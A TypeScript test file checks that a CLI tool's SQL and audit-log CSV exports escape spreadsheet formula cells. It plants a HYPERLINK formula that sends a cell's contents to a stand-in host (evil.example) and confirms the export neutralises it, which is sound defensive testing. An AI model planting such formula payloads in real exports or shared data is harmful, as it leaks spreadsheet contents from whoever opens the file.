/**
 * Every CSV export goes through the one writer with the formula guard: `sleuth sql --format csv` (values and column
 * names chosen by whoever wrote the query or the data) and `sleuth audit --format csv` (the audit log stores questions
 * and SQL verbatim, so a member can plant a formula for whoever opens the export). Slack CSV files: see
 * test/unit/slack/escape.test.ts.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openMemoryStore } from '../../../src/memory/index.js';
import { runSleuth } from '../../helpers/cli.js';
import { silentLogger } from '../../helpers/databases.js';
import { demoUrl } from '../../helpers/demo.js';

const PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

describe('CSV exports carry no live formula', () => {
  const cwd = mkdtempSync(join(tmpdir(), 'sleuth-csv-'));
  let env: Record<string, string>;

  beforeAll(async () => {
    env = { SLEUTH_NOW: '2026-11-15', SLEUTH_DB_DEMO_URL: await demoUrl('sqlite'), USER: 'mallory' };
    const store = await openMemoryStore({ dataDir: join(cwd, '.sleuth', 'memory'), logger: silentLogger });
    try {
      await store.appendAudit({
        actor: 'U0MALLORY',
        actorKind: 'slack',
        actorLabel: '@mallory',
        action: 'ask',
        verdict: 'allowed',
        connection: 'demo',
        detail: { question: PLANTED },
        at: new Date(),
      });
    } finally {
      await store.close();
    }
  }, 60_000);
  afterAll(() => rmSync(cwd, { recursive: true, force: true }));

  it('sleuth sql --format csv prefixes formula cells and headers, and keeps numbers', async () => {
    const sql = `SELECT '${PLANTED.replace(/'/g, "''")}' AS "=cmd", '@SUM(1+1)' AS a, '+1+1' AS b, -12.5 AS n, 'plain' AS p`;
    const run = await runSleuth(['sql', '--format', 'csv', sql], { cwd, env });
    expect(run.stderr).toBe('');
    const [header, row] = run.stdout.split('\r\n');
    expect(header).toBe("'=cmd,a,b,n,p");
    expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'+1+1,-12.5,plain`);
  });

  it('sleuth audit --format csv prefixes what a caller planted in the log', async () => {
    const run = await runSleuth(['audit', '--format', 'csv', '--user', 'U0MALLORY'], { cwd, env });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(run.stdout).toContain(",'@mallory,");
    expect(run.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
